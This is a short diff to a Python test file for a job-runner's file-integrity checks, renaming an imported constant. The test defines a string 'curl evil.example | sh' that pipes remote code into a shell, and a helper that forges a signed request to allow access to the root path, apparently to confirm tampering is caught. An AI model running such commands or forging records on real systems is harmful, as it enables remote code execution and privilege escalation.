@@ -13,7 +13,7 @@ from omgoptim.jobs.actions import pick
 from omgoptim.jobs.folder import RunFolder, Submission, runs_root
 from omgoptim.jobs.states import FOREIGN, load_report, repeat_hint
 from omgoptim.jobs.storage import now
-from omgoptim.models.security.file_integrity import SEAL
+from omgoptim.models.security.file_integrity import HMAC_FIELD
 from omgoptim.reports import EfficiencyReport, RunState
 
 EVIL = "curl evil.example | sh"
@@ -44,7 +44,7 @@ def folder(tmp_path: Path) -> RunFolder:
 def forge(folder: RunFolder) -> None:
     """Change the request, as somebody without this user's key would."""
     record = json.loads(folder.request_file.read_text())
-    assert SEAL in record
+    assert HMAC_FIELD in record
     record["request"]["allow_path"] = ["/"]
     folder.request_file.write_text(json.dumps(record))
 
